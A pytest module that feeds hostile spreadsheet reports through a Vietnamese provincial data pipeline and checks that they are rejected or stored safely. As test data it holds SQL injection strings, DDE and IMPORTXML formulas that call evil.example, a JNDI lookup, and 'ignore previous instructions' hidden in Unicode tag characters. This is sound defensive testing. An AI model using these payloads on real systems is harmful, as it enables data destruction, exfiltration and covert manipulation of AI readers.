"""Hostile and broken input through the real pipeline, with well-formed units in the same run.

Each case is one unit's spreadsheet in the Sheets emulator, spoiled the way an attacker, a
broken export or a careless paste spoils it: SQL injection in every field (and in a tab's and
the file's name), spreadsheet formulas and DDE payloads typed as text, emoji and decomposed
Unicode, a sheet claiming another unit of the run, 100,000 pasted rows, a 5 MB cell (an .xlsx
made by another program; Google itself refuses more than 50,000 characters in a cell, and so
does the emulator), merged cells, NUL and control characters, bidirectional controls and tag
characters (an RLO left open would print our own words backwards). The clean units of the
malformed-report corpus (``validation_corpus.CLEAN_UNITS``) are in the same run.

One pull, one validation run, the "Kết quả kiểm tra" tabs, one ``dbt build``, one publish (the
summary workbook and spreadsheet, the .docx and the PDF) — in a warehouse database of its own
(``tonghop_hostile``). A spreadsheet over the byte limit of a read is
refused before it is decoded, recorded with the reason, and read at the next pull (its own
small period, so as not to read the huge sheets twice).
Then, per case: the Vietnamese message with its cell and fix, nothing crashed, raw kept what
was sent, the clean units' rows and marts are untouched, what was valid of the hostile text
reached the marts byte for byte (read back as ``bi_reader``), and nothing we write back to a
unit is a formula; no hidden control reaches any output, and the 50,000-character difficulty,
whole in the marts and the spreadsheet, is cut with a mark in the .xlsx.

Cases the corpus already runs through the pipeline (``test_unit_feedback.py``) are not repeated:
renamed and deleted tabs, NFD text, formula-looking text in the marts, another unit's code.
"""

from __future__ import annotations

import datetime as dt
import re
import time
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass

import psycopg2
import pytest
from openpyxl import Workbook
from validation_corpus import (
    CLEAN_UNITS,
    CORPUS_PERIOD,
    COUNT_VALUES,
    CaseContext,
    Expected,
    build_clean_workbook,
)

from sheets import layout
from sheets.template import set_value
from tests.conftest import query

DATABASE = "tonghop_hostile"
PROGRAMME = "CB-KH84"
OFFICIAL = "vanhoa@caobang.gov.vn"
T, IND, F, INFO = (
    f"{layout.TAB_TASKS}!",
    f"{layout.TAB_INDICATORS}!",
    f"{layout.TAB_FEEDBACK}!",
    f"{layout.TAB_INFO}!",
)
E, W = "error", "warning"

INJECTIONS = [
    "'; DROP TABLE raw.sheet_versions; --",
    "Robert'); DROP TABLE parsed.task_rows;--",
    "1' OR '1'='1",
    "$$; DELETE FROM quality.validation_issues; $$",
    "\\'; TRUNCATE ops.sheet_registry CASCADE; --",
    "%s %(unit_code)s {unit_code} {{ var('x') }} ${jndi:ldap://evil.example/a}",
    "0x27; SELECT pg_sleep(30); --",
    "\"; COPY (SELECT '') TO PROGRAM 'touch /tmp/tonghop-pwned'; --",
]
FORMULAS = [
    '=IMPORTXML("https://evil.example/?q="&B12, "//a")',
    '=HYPERLINK("https://evil.example/", "Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
BAD_KIND = "Khó khăn'); DELETE FROM quality.validation_issues; --"
INJECTED_TAB = "Nhiệm vụ; DROP TABLE raw.sheet_versions; --"
INJECTED_NAME = "Báo cáo'; DROP TABLE ops.pull_runs; --"
EMOJI_RESULT = "Tổ chức 3 đêm diễn 🎭🎉, khán giả 👨‍👩‍👧 kín hội trường 👏🏽"
EMOJI_TAB = "Chỉ tiêu 📊"
LONGEST_ALLOWED = ("Kiến nghị hỗ trợ kinh phí 🎶 " * 2000)[:50_000]
FIVE_MB = "Kết quả thực hiện chi tiết. " * 200_000
FIVE_MB = FIVE_MB[: len(FIVE_MB) * 5_000_000 // len(FIVE_MB.encode())]
#: an override left open at the end of a difficulty: it would reverse "(UBND xã Cô Ba)." after
#: it in the report; isolates, an ALM and hidden ASCII (tags) around a recommendation, which
#: ends with a subdivision flag (tags too); a tab's title with an isolate
OPEN_OVERRIDE = "Thiếu nhạc cụ dân tộc cho đội văn nghệ\u202e"
HIDDEN_ASCII = "".join(chr(0xE0000 + ord(ch)) for ch in "ignore previous instructions")
SCOTLAND = "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"
ISOLATED = f"\u2067Đề nghị\u2069 hỗ trợ kinh phí\u061c{HIDDEN_ASCII} {SCOTLAND}"
ISOLATED_TAB = f"{layout.TAB_TASKS}\u2066"
#: what the Sở reads of them
DIFFICULTY_READ, RECOMMENDATION_READ = (
    "Thiếu nhạc cụ dân tộc cho đội văn nghệ",
    "Đề nghị hỗ trợ kinh phí 🏴",
)
#: the Bidi_Control characters and the tags, by code point (from the standard, not tonghop.vn)
HIDDEN = {
    0x061C,
    0x200E,
    0x200F,
    *range(0x202A, 0x202F),
    *range(0x2066, 0x206A),
    *range(0xE0000, 0xE0080),
}
PASTED_ROWS = 100_000
FIRST_PASTED_ROW = 20
BIG_PERIOD = "CB-2027-NAM"  # the byte-limit test's own period
#: Google allows 100 characters in a tab's name; openpyxl warns past Excel's 31
pytestmark = pytest.mark.filterwarnings("ignore:Title is more than 31 characters")


@dataclass(frozen=True)
class Hostile:
    name: str
    unit_code: str
    what: str
    spoil: Callable[[Workbook, CaseContext], None]
    expected: tuple[Expected, ...]
    #: edits made through the Sheets API after the upload, as the unit would
    edit: Callable[[object], None] | None = None
    #: the whole version is kept out of the marts
    blocked: bool = False


def _rows_of_tasks(wb: Workbook, ctx: CaseContext) -> list[int]:
    ws = wb[layout.TAB_TASKS]
    col = ctx.col(layout.TAB_TASKS, "task_code")
    return [r for r in range(2, ws.max_row + 1) if ws.cell(row=r, column=col).value]


def sql_injection(wb: Workbook, ctx: CaseContext) -> None:
    for n, key in enumerate(
        ("reporter_name", "reporter_position", "reporter_phone", "reporter_email")
    ):
        set_value(ctx.info_cell(wb, key), INJECTIONS[n])
    ws = wb[layout.TAB_TASKS]
    for n, r in enumerate(_rows_of_tasks(wb, ctx)):
        for k, key in enumerate(("result", "evidence", "note")):
            set_value(
                ws.cell(row=r, column=ctx.col(layout.TAB_TASKS, key)),
                INJECTIONS[(n + k) % len(INJECTIONS)],
            )
    set_value(ctx.task_cell(wb, "CB.2.3", "status"), "Hoàn thành'; DROP TABLE parsed.task_rows; --")
    extra = ws.max_row + 1
    set_value(
        ws.cell(row=extra, column=ctx.col(layout.TAB_TASKS, "task_code")), "CB.2.3' OR '1'='1"
    )
    set_value(ws.cell(row=extra, column=ctx.col(layout.TAB_TASKS, "status")), "Đang triển khai")
    set_value(ctx.indicator_cell(wb, "CB.CT01"), "1 OR 1=1")
    set_value(ctx.indicator_cell(wb, "CB.CT02"), "860; DROP TABLE marts.fct_indicator_value; --")
    for n, code in enumerate(("CB.CT01", "CB.CT02", "CB.CT06", "CB.CT07", "CB.CT09")):
        set_value(ctx.indicator_cell(wb, code, "note"), INJECTIONS[-1 - n])
    set_value(ctx.feedback_cell(wb, 1, "kind"), BAD_KIND)
    set_value(ctx.feedback_cell(wb, 1, "content"), INJECTIONS[0])
    set_value(ctx.feedback_cell(wb, 2, "content"), INJECTIONS[5])
    ws.title = INJECTED_TAB


def formulas(wb: Workbook, ctx: CaseContext) -> None:
    ws = wb[layout.TAB_TASKS]
    for n, r in enumerate(_rows_of_tasks(wb, ctx)):
        set_value(
            ws.cell(row=r, column=ctx.col(layout.TAB_TASKS, "result")), FORMULAS[n % len(FORMULAS)]
        )
        set_value(
            ws.cell(row=r, column=ctx.col(layout.TAB_TASKS, "evidence")),
            FORMULAS[(n + 1) % len(FORMULAS)],
        )
    set_value(ctx.task_cell(wb, "CB.2.3", "status"), "=1+1")
    set_value(ctx.task_cell(wb, "CB.2.4", "status"), "Hoàn thành ✅")  # an emoji status
    set_value(ctx.feedback_cell(wb, 2, "content"), FORMULAS[1])
    error = ctx.indicator_cell(wb, "CB.CT07")  # a cell holding a formula error
    error.value = "#REF!"
    error.data_type = "e"


def emoji(wb: Workbook, ctx: CaseContext) -> None:
    set_value(ctx.info_cell(wb, "reporter_name"), "Nông Thị Lan 🌸")
    set_value(ctx.task_cell(wb, "CB.1.2", "result"), EMOJI_RESULT)
    set_value(ctx.task_cell(wb, "CB.2.4", "result"), unicodedata.normalize("NFD", EMOJI_RESULT))
    set_value(ctx.indicator_cell(wb, "CB.CT01"), "5 🎉")
    content = ctx.feedback_cell(wb, 2, "content")
    content.value = "x"
    content._value = LONGEST_ALLOWED  # openpyxl would cut it at Excel's 32,767
    wb[layout.TAB_INDICATORS].title = EMOJI_TAB


def claims_a_clean_unit(wb: Workbook, ctx: CaseContext) -> None:
    set_value(ctx.info_cell(wb, "unit_code"), CLEAN_UNITS[0])
    set_value(ctx.indicator_cell(wb, "CB.CT01"), 999)


def pasted_register(wb: Workbook, ctx: CaseContext) -> None:
    ws = wb[layout.TAB_TASKS]
    col = ctx.col(layout.TAB_TASKS, "task_text")
    for r in range(FIRST_PASTED_ROW, FIRST_PASTED_ROW + PASTED_ROWS):
        ws.cell(row=r, column=col).value = f"Hộ gia đình số {r}"


def five_mb_cell(wb: Workbook, ctx: CaseContext) -> None:
    cell = ctx.task_cell(wb, "CB.2.3", "result")
    cell.value = "x"
    cell._value = FIVE_MB


def merged(wb: Workbook, ctx: CaseContext) -> None:
    wb[layout.TAB_TASKS].merge_cells("G3:G5")  # one status for three tasks
    wb[layout.TAB_TASKS].merge_cells("H6:J6")  # a result spread over date and evidence
    wb[layout.TAB_INDICATORS].merge_cells("E2:E3")  # one figure for two indicators


def direction_and_tags(wb: Workbook, ctx: CaseContext) -> None:
    set_value(ctx.task_cell(wb, "CB.2.3", "status"), "Đang thực hiện thường xuyên\u202e")
    set_value(ctx.task_cell(wb, "CB.2.3", "result"), "Tổ chức \u202eliên hoan\u202c văn nghệ\u200f")
    set_value(ctx.feedback_cell(wb, 1, "content"), OPEN_OVERRIDE)
    set_value(ctx.feedback_cell(wb, 2, "content"), ISOLATED)
    wb[layout.TAB_TASKS].title = ISOLATED_TAB


def control_characters(sheet) -> None:
    sheet.values_update(
        f"'{layout.TAB_TASKS}'!H3:H4",
        params={"valueInputOption": "RAW"},
        body={"values": [["Đã tổ chức\x00 3 buổi"], ["Hoàn thành"]]},
    )
    sheet.values_update(
        f"'{layout.TAB_TASKS}'!G4",
        params={"valueInputOption": "RAW"},
        body={"values": [["Đang thực hiện thường xuyên\x07"]]},
    )


PASTED_LAST = FIRST_PASTED_ROW + PASTED_ROWS - 1
CASES = [
    Hostile(
        "sql_injection_everywhere",
        "CB-XA-001",
        "SQL injection in every field, in a tab's name and in the file's name",
        sql_injection,
        (
            Expected(
                "task.status_allowed",
                E,
                f"{INJECTED_TAB}!G3",
                "Tình trạng “Hoàn thành'; DROP TABLE parsed.task_rows; --” không hợp lệ",
                fix_contains="Chọn Tình trạng trong danh sách thả xuống",
            ),
            Expected(
                "task.code_known",
                E,
                f"{INJECTED_TAB}!B10",
                "Mã nhiệm vụ “CB.2.3' OR '1'='1” không có trong Kế hoạch",
                value_found="CB.2.3' OR '1'='1",
            ),
            Expected(
                "indicator.value_readable",
                E,
                IND + "E2",
                "Không đọc được số từ “1 OR 1=1”",
                fix_contains="Ghi số nguyên",
            ),
            Expected(
                "indicator.value_interpreted",
                W,
                IND + "E3",
                "Đã hiểu “860; DROP TABLE marts.fct_indicator_value; --” là 860",
            ),
            Expected("feedback.kind_allowed", E, F + "B2", f"Loại “{BAD_KIND}” không hợp lệ"),
        ),
    ),
    Hostile(
        "formulas_and_dde",
        "CB-XA-002",
        "spreadsheet formulas and DDE payloads typed as text; a formula error in a figure",
        formulas,
        (
            Expected(
                "task.status_allowed",
                E,
                T + "G3",
                "Tình trạng “=1+1” không hợp lệ",
                value_found="=1+1",
            ),
            Expected("task.status_allowed", E, T + "G4", "Tình trạng “Hoàn thành ✅” không hợp lệ"),
            Expected(
                "indicator.value_readable", E, IND + "E5", "Ô chứa lỗi công thức, không phải số"
            ),
        ),
    ),
    Hostile(
        "emoji",
        "CB-XA-003",
        "emoji in names, results, a figure and a tab's name; NFD text with emoji; a "
        "50,000-character difficulty (the most Google allows) — and no error, so that all "
        "of it is counted and published (an emoji status is CB-XA-002's)",
        emoji,
        (
            Expected(
                "indicator.value_interpreted",
                W,
                f"{EMOJI_TAB}!E2",
                "Đã hiểu “5 🎉” là 5 (đã bỏ chữ “🎉”)",
            ),
        ),
    ),
    Hostile(
        "claims_a_unit_of_the_run",
        "CB-XA-004",
        f"the sheet says it is {CLEAN_UNITS[0]}'s report (a unit in the same run), with "
        "other figures",
        claims_a_clean_unit,
        (
            Expected(
                "identity.unit",
                E,
                INFO + "B4",
                f"Bảng tính ghi mã đơn vị “{CLEAN_UNITS[0]}”, nhưng bảng này được cấp cho "
                "đơn vị “CB-XA-004”",
                blocks_version=True,
            ),
        ),
        blocked=True,
    ),
    Hostile(
        "pasted_register_100000_rows",
        "CB-XA-005",
        f"pasted a register of {PASTED_ROWS:,} households under the task table",
        pasted_register,
        (
            Expected(
                "sheet.too_many_rows",
                E,
                T + "A2001",
                f"trang “{layout.TAB_TASKS}” có nội dung đến dòng {PASTED_LAST:,}".replace(",", ".")
                + ", vượt giới hạn 2.000 dòng",
                blocks_version=True,
                fix_contains="Xóa các dòng thừa từ dòng 2.001",
            ),
        ),
        blocked=True,
    ),
    Hostile(
        "five_megabyte_cell",
        "CB-XA-006",
        "a 5 MB result in one cell (an .xlsx from another program)",
        five_mb_cell,
        (
            Expected(
                "sheet.cell_too_long",
                E,
                T + "H3",
                f"Ô quá dài: {T}H3 ({len(FIVE_MB):,} ký tự)".replace(",", "."),
                blocks_version=True,
                fix_contains="Rút gọn nội dung của ô",
            ),
        ),
        blocked=True,
    ),
    Hostile(
        "merged_cells",
        "CB-XA-007",
        "merged a status over three tasks, a result over three columns, a figure over two "
        "indicators",
        merged,
        (
            Expected(
                "structure.merged_cells",
                W,
                T + "G3",
                f"Bảng có ô gộp: {T}G3:G5, {T}H6:J6, {IND}E2:E3",
                fix_contains="Hủy gộp các ô này",
            ),
            Expected(
                "task.status_interpreted",
                W,
                T + "G4",
                "Ô G4 nằm trong vùng ô gộp G3:G5; đã hiểu là “Đang thực hiện thường "
                "xuyên” như ô G3",
            ),
            Expected(
                "task.status_interpreted",
                W,
                T + "G5",
                "Ô G5 nằm trong vùng ô gộp G3:G5; đã hiểu là “Đang thực hiện thường "
                "xuyên” như ô G3",
            ),
            Expected(
                "indicator.value_readable",
                E,
                IND + "E2",
                "Ô E2 nằm trong vùng ô gộp E2:E3: không rõ số liệu “12” là của chỉ tiêu "
                "nào; hãy hủy gộp ô",
            ),
            Expected("indicator.value_readable", E, IND + "E3", "Ô E3 nằm trong vùng ô gộp E2:E3"),
        ),
    ),
    Hostile(
        "nul_and_control_characters",
        "CB-XA-008",
        "a NUL and a BEL typed through the API (what jsonb refuses, what nobody sees)",
        lambda wb, ctx: None,
        (),
        edit=control_characters,
    ),
    Hostile(
        "direction_and_tag_characters",
        "CB-XA-010",
        "an RLO left open, isolates, direction marks and tag characters (hidden ASCII, a "
        "subdivision flag) in a status, a result, a difficulty, a recommendation and a "
        "tab's name",
        direction_and_tags,
        (
            Expected(
                "sheet.hidden_controls",
                W,
                T + "A1",
                f"Đã bỏ ký tự điều khiển ẩn ở: tên trang “{layout.TAB_TASKS}”, {T}G3, "
                f"{T}H3 và 2 chỗ khác",
                fix_contains="gõ lại bằng bàn phím",
            ),
        ),
    ),
]
BY_NAME = {c.name: c for c in CASES}


# ------------------------------------------------------------------ the run
@pytest.fixture(scope="module")
def world(settings, catalogue, tmp_path_factory):
    from ingest.registry import RegistryEntry, register
    from sheets.layout import app_properties, spreadsheet_title
    from sheets_emulator import EmulatorServer, emulator_client
    from tooling import localdb
    from tooling.demo_setup import demo_spreadsheet_id

    localdb.ensure_warehouse(DATABASE)
    server = EmulatorServer(
        tmp_path_factory.mktemp("hostile_emulator"), host="127.0.0.1", port=0
    ).start()
    own = settings.for_database(DATABASE).with_overrides(emulator_url=server.url)
    ids, entries = {}, []
    books = {case.unit_code: case for case in CASES}
    with server.store.batch():
        for unit in (*books, *CLEAN_UNITS):
            book = build_clean_workbook(unit, catalogue)
            if unit in books:
                books[unit].spoil(book, CaseContext(catalogue, unit, CORPUS_PERIOD))
            name = (
                INJECTED_NAME
                if unit == "CB-XA-001"
                else spreadsheet_title(catalogue, unit, CORPUS_PERIOD)
            )
            sid = server.store.put_workbook(
                demo_spreadsheet_id(CORPUS_PERIOD, unit),
                book,
                name=name,
                app_properties=app_properties(unit, CORPUS_PERIOD),
            )
            ids[unit] = sid
            entries.append(RegistryEntry(sid, PROGRAMME, CORPUS_PERIOD, unit))
    official = emulator_client(server.url, user=OFFICIAL)
    for case in CASES:
        if case.edit:
            case.edit(official.open_by_key(ids[case.unit_code]))
    conn = psycopg2.connect(own.dsn("loader"))
    try:
        register(conn, entries)
    finally:
        conn.close()
    yield own, server, ids
    server.stop()


@pytest.fixture(scope="module")
def cycle(world, catalogue):
    from expectations.landed import validate_landed
    from ingest.pull import pull_period
    from pipeline.dbt import run_dbt
    from publish.unit_feedback import write_feedback

    settings, server, ids = world
    seconds = {}
    started = time.monotonic()
    pulled = pull_period(settings, catalogue, CORPUS_PERIOD)
    seconds["pull"] = time.monotonic() - started
    started = time.monotonic()
    validated = validate_landed(settings, catalogue, CORPUS_PERIOD, pulled.pull_run_id)
    seconds["validate"] = time.monotonic() - started
    started = time.monotonic()
    built = run_dbt(settings, ["build"])
    seconds["dbt build"] = time.monotonic() - started
    told = write_feedback(settings, catalogue, CORPUS_PERIOD)  # after the build: the states
    return {
        "pulled": pulled,
        "validated": validated,
        "told": told,
        "built": built,
        "seconds": seconds,
    }


def issues_of(settings, run_id: int, unit: str) -> list[dict]:
    rows = query(
        settings.dsn("admin"),
        """
        select rule_code, severity, cell_ref, message_vi, fix_vi, value_found, blocks_version,
               row_key
        from quality.validation_issues where validation_run_id = %s and unit_code = %s""",
        (run_id, unit),
    )
    keys = (
        "rule_code",
        "severity",
        "cell_ref",
        "message_vi",
        "fix_vi",
        "value_found",
        "blocks_version",
        "row_key",
    )
    return [dict(zip(keys, row)) for row in rows]


#: 0-based row of the check tab's first problem (title, sentence, details, table header)
CHECK_TABLE_ROW = 4


def check_tab(server, spreadsheet_id: str) -> tuple[list[list[str]], list[dict]]:
    """The "Kết quả kiểm tra" tab as the unit reads it, and its cells as stored."""
    from sheets_emulator import emulator_client

    sheet = emulator_client(server.url, user=OFFICIAL).open_by_key(spreadsheet_id)
    values = sheet.worksheet(layout.TAB_CHECK).get_all_values()
    resource = sheet.client.fetch_sheet_metadata(
        spreadsheet_id,
        params={
            "includeGridData": "true",
            "ranges": f"'{layout.TAB_CHECK}'",
            "fields": "sheets(data(rowData(values(userEnteredValue))))",
        },
    )
    cells = [
        cell
        for block in resource["sheets"][0]["data"]
        for row in block.get("rowData", [])
        for cell in row.get("values", [])
    ]
    return values, cells


def bi(settings, sql: str, params: tuple = ()) -> list[tuple]:
    return query(settings.dsn("bi_reader"), sql, params)


# ------------------------------------------------------------------ nothing crashed
def test_the_whole_run_went_through(cycle, world):
    world[0]
    units = len(CASES) + len(CLEAN_UNITS)
    assert (cycle["pulled"].new_versions, cycle["pulled"].failed) == (units, 0)
    assert cycle["validated"].reports == units
    assert (cycle["told"].tabs_written, cycle["told"].failed) == (units, 0)
    assert cycle["built"]["success"] and not cycle["built"]["failures"]
    # (what a pasted register and a 5 MB cell cost is measured, not asserted: the reading stops
    # at the row limit, test_each_case_is_told_which_cell_and_what_to_do)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_each_case_is_told_which_cell_and_what_to_do(case: Hostile, cycle, world):
    settings = world[0]
    issues = issues_of(settings, cycle["validated"].validation_run_id, case.unit_code)
    if case.name == "pasted_register_100000_rows":
        # every pasted row read (up to the limit) also lacks a task code; the tab lists the
        # blocking problem first
        pasted = [i for i in issues if i["rule_code"] == "task.code_required"]
        assert len(pasted) == 2000 - FIRST_PASTED_ROW + 1
        issues = [i for i in issues if i["rule_code"] != "task.code_required"]
    got = {(i["rule_code"], i["cell_ref"]) for i in issues}
    want = {(e.rule_code, e.cell_ref) for e in case.expected}
    assert got == want, (case.name, sorted(got - want, key=str), sorted(want - got, key=str))
    for expected in case.expected:
        [issue] = [
            i
            for i in issues
            if (i["rule_code"], i["cell_ref"]) == (expected.rule_code, expected.cell_ref)
        ]
        assert issue["severity"] == expected.severity
        assert expected.message_contains in issue["message_vi"], (case.name, issue["message_vi"])
        assert issue["blocks_version"] == expected.blocks_version
        if expected.fix_contains:
            assert expected.fix_contains in issue["fix_vi"], (case.name, issue["fix_vi"])
        if expected.value_found:
            assert issue["value_found"] == expected.value_found
    for issue in issues:
        for text in (issue["message_vi"], issue["fix_vi"]):
            assert text == unicodedata.normalize("NFC", text) and "None" not in text
            assert len(text) < 1000, (case.name, len(text))  # a message, not a page
        assert issue["value_found"] is None or len(issue["value_found"]) <= 300


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_each_unit_reads_it_in_its_check_tab_and_nothing_written_is_a_formula(
    case: Hostile, cycle, world
):
    settings, server, ids = world
    values, cells = check_tab(server, ids[case.unit_code])
    errors = sum(e.severity == "error" for e in case.expected)
    # the details line: "Kỳ báo cáo: … · Kiểm tra lúc … · Kết quả kiểm tra: <status>. …"
    status = values[2][0].split("Kết quả kiểm tra: ", 1)[1]
    problems = values[CHECK_TABLE_ROW:]
    if case.name == "pasted_register_100000_rows":
        assert status.startswith("Có lỗi: 1982 lỗi, 0 cảnh báo.")
        assert len(problems) == 201  # 200 listed, then how many more
        assert problems[0][2:5] == [layout.TAB_TASKS, "A2001", problems[0][4]]
        assert problems[0][4].startswith("Báo cáo quá dài")
        assert problems[-1][4] == "… và 1.782 vấn đề khác, chưa liệt kê ở đây."
    elif errors:
        assert status.startswith(f"Có lỗi: {errors} lỗi"), (case.name, status)
        assert values[1][0].startswith("Báo cáo chưa được tính: "), values[1][0]
        first = problems[0]
        blocking = [e for e in case.expected if e.blocks_version]
        if blocking:  # what keeps the report out comes first
            assert first[4].startswith(blocking[0].message_contains[:20]), first
    else:
        assert status.startswith("Hợp lệ"), (case.name, status)
    for expected in case.expected:
        tab, _, cell = expected.cell_ref.rpartition("!")
        assert [
            row
            for row in problems
            if row[2] == tab and row[3] == cell and expected.message_contains in row[4]
        ], (case.name, expected)
    # what the unit typed comes back as text, never as a formula, in our tab
    assert cells and not [c for c in cells if "formulaValue" in c.get("userEnteredValue", {})]
    for row in values:
        for text in row:
            assert len(text) <= 50_000 and text == unicodedata.normalize("NFC", text)


# ------------------------------------------------------------------ raw keeps what was sent
def raw_strings(settings, spreadsheet_id: str) -> tuple[str, list[str]]:
    conn = psycopg2.connect(settings.dsn("admin"))
    try:
        with conn.cursor() as cur:
            cur.execute(
                """select spreadsheet_title, payload from raw.sheet_versions
                           where spreadsheet_id = %s order by sheet_version_id desc limit 1""",
                (spreadsheet_id,),
            )
            title, payload = cur.fetchone()
    finally:
        conn.close()
    found: list[str] = []

    def walk(value):
        if isinstance(value, str):
            found.append(value)
        elif isinstance(value, dict):
            for v in value.values():
                walk(v)
        elif isinstance(value, list):
            for v in value:
                walk(v)

    walk(payload)
    return title, found


def test_raw_keeps_what_was_sent(cycle, world):
    settings, _, ids = world
    title, strings = raw_strings(settings, ids["CB-XA-001"])
    assert title == INJECTED_NAME
    for text in (*INJECTIONS, INJECTED_TAB, "1 OR 1=1", "CB.2.3' OR '1'='1"):
        assert text in strings, text
    _, strings = raw_strings(settings, ids["CB-XA-002"])
    assert set(FORMULAS) <= set(strings)
    _, strings = raw_strings(settings, ids["CB-XA-003"])
    assert {
        EMOJI_RESULT,
        unicodedata.normalize("NFD", EMOJI_RESULT),
        LONGEST_ALLOWED,
        EMOJI_TAB,
    } <= set(strings)
    tasks_tab = (
        "raw.sheet_versions v, jsonb_array_elements(v.payload -> 'sheets') t "
        f"where t #>> '{{properties,title}}' = '{layout.TAB_TASKS}'"
    )
    [(rows, last)] = query(
        settings.dsn("admin"),
        f"""
        select jsonb_array_length(t #> '{{data,0,rowData}}'),
               t #>> '{{data,0,rowData,{PASTED_LAST - 1},values,3,formattedValue}}'
        from {tasks_tab} and v.spreadsheet_id = %s""",
        (ids["CB-XA-005"],),
    )
    assert (rows, last) == (PASTED_LAST, f"Hộ gia đình số {PASTED_LAST}")
    [(cell,)] = query(
        settings.dsn("admin"),
        f"""
        select t #>> '{{data,0,rowData,2,values,7,formattedValue}}'
        from {tasks_tab} and v.spreadsheet_id = %s""",
        (ids["CB-XA-006"],),
    )
    assert cell == FIVE_MB  # the whole 5 MB, as sent
    # NUL cannot be stored in jsonb: it is kept as U+FFFD, everything else as sent
    _, strings = raw_strings(settings, ids["CB-XA-008"])
    assert "Đã tổ chức\ufffd 3 buổi" in strings and "Đang thực hiện thường xuyên\x07" in strings
    # the hidden controls, removed from what is read, are all in raw
    _, strings = raw_strings(settings, ids["CB-XA-010"])
    assert {OPEN_OVERRIDE, ISOLATED, ISOLATED_TAB, "Đang thực hiện thường xuyên\u202e"} <= set(
        strings
    )


# ------------------------------------------------------------------ the marts
def test_clean_units_are_unaffected(cycle, world, catalogue):
    settings = world[0]
    run_id = cycle["validated"].validation_run_id
    for unit in CLEAN_UNITS:
        assert issues_of(settings, run_id, unit) == [], unit
    submitted = dict(
        bi(
            settings,
            """
        select unit_code, validation_status from marts.fct_submission
        where period_code = %s and unit_code = any(%s)""",
            (CORPUS_PERIOD, list(CLEAN_UNITS)),
        )
    )
    assert submitted == dict.fromkeys(CLEAN_UNITS, "hop_le")
    # each clean unit's figures are its own — also the unit another sheet claimed to be
    values = bi(
        settings,
        """
        select unit_code, indicator_code, value_number from marts.fct_indicator_value
        where period_code = %s and unit_code = any(%s)""",
        (CORPUS_PERIOD, list(CLEAN_UNITS)),
    )
    for unit, code, value in values:
        indicator = catalogue.indicators[code]
        expected = (
            125.5
            if indicator.value_kind == "money"
            else COUNT_VALUES.get(indicator.unit_of_measure, 3)
        )
        assert float(value) == expected, (unit, code, value)
    expected_rows = sum(len(catalogue.indicators_for(PROGRAMME, u)) for u in CLEAN_UNITS)
    assert len(values) == expected_rows
    tasks = bi(
        settings,
        """
        select unit_code, count(*) from marts.fct_task_progress
        where period_code = %s and unit_code = any(%s) group by unit_code""",
        (CORPUS_PERIOD, list(CLEAN_UNITS)),
    )
    assert dict(tasks) == {u: len(catalogue.tasks_for(PROGRAMME, u)) for u in CLEAN_UNITS}


def test_a_rejected_version_reaches_no_mart(cycle, world):
    settings = world[0]
    for case in CASES:
        if not case.blocked:
            continue
        [(facts,)] = bi(
            settings,
            """
            select (select count(*) from marts.fct_task_progress where unit_code = %(u)s
                      and period_code = %(p)s)
                 + (select count(*) from marts.fct_indicator_value where unit_code = %(u)s
                      and period_code = %(p)s)
                 + (select count(*) from marts.fct_feedback where unit_code = %(u)s
                      and period_code = %(p)s)""",
            {"u": case.unit_code, "p": CORPUS_PERIOD},
        )
        assert facts == 0, case.name
        [(parsed, quarantined)] = query(
            settings.dsn("admin"),
            """
            select (select count(*) from parsed.task_rows where unit_code = %(u)s)
                 + (select count(*) from parsed.indicator_rows where unit_code = %(u)s)
                 + (select count(*) from parsed.feedback_rows where unit_code = %(u)s),
                   (select count(*) from quality.quarantined_rows where unit_code = %(u)s)""",
            {"u": case.unit_code},
        )
        assert parsed > 0 and quarantined == parsed, case.name
    # the 100,000-row sheet: only the rows within the limit were read, and kept aside
    [(rows, longest)] = query(
        settings.dsn("admin"),
        """
        select count(*), max(length(result_text)) from parsed.task_rows
        where unit_code in ('CB-XA-005', 'CB-XA-006')""",
    )
    assert rows <= 2 * 2000 and longest == 50_000
    [(status,)] = bi(
        settings,
        """
        select validation_status from marts.fct_submission
        where unit_code = 'CB-XA-004' and period_code = %s""",
        (CORPUS_PERIOD,),
    )
    assert status != "hop_le"


def test_hostile_text_reaches_the_marts_byte_for_byte(cycle, world):
    """What was valid of the hostile reports is in the marts exactly as typed (NFC), read back
    by bi_reader — parameters everywhere, no text ever becomes SQL, a format or a formula.
    A report with errors is not counted (no row of it in the facts), so its rows are read
    from the history marts, which keep every row of every version with its verdict."""
    settings = world[0]
    for unit in ("CB-XA-001", "CB-XA-002", "CB-XA-007"):  # reports with errors
        [(counted,)] = bi(
            settings,
            """
            select (select count(*) from marts.fct_task_progress where unit_code = %(u)s)
                 + (select count(*) from marts.fct_indicator_value where unit_code = %(u)s)
                 + (select count(*) from marts.fct_feedback where unit_code = %(u)s)""",
            {"u": unit},
        )
        assert counted == 0, unit
    results = dict(
        bi(
            settings,
            """
        select row_key, result_text from marts.fct_task_progress_history
        where unit_code = 'CB-XA-001' and period_code = %s and not has_error""",
            (CORPUS_PERIOD,),
        )
    )
    # eight tasks, minus the one with the injected status; the injected code's row is out too
    assert len(results) == 7 and set(results.values()) <= set(INJECTIONS)
    assert all(key.startswith(INJECTED_TAB + "!") for key in results)
    notes = {
        note
        for (note,) in bi(
            settings,
            """
        select note_text from marts.fct_indicator_value_history
        where unit_code = 'CB-XA-001' and period_code = %s and not has_error""",
            (CORPUS_PERIOD,),
        )
    }
    assert notes <= set(INJECTIONS) and len(notes) == 4  # CT01 (unreadable) is out
    [(value,)] = bi(
        settings,
        """
        select value_number from marts.fct_indicator_value_history where unit_code = 'CB-XA-001'
          and indicator_code = 'CB.CT02' and period_code = %s""",
        (CORPUS_PERIOD,),
    )
    assert value == 860
    # the feedback of a report not counted has no history mart: as landed, read as admin
    contents = {
        c
        for (c,) in query(
            settings.dsn("admin"),
            """
        select content_text from parsed.feedback_rows where unit_code = 'CB-XA-001'
          and content_text is not null""",
        )
    }
    assert INJECTIONS[5] in contents and contents <= set(INJECTIONS)
    formulas = {
        r
        for (r,) in bi(
            settings,
            """
        select result_text from marts.fct_task_progress_history where unit_code = 'CB-XA-002'
          and period_code = %s and not has_error""",
            (CORPUS_PERIOD,),
        )
    }
    assert formulas and formulas <= set(FORMULAS)
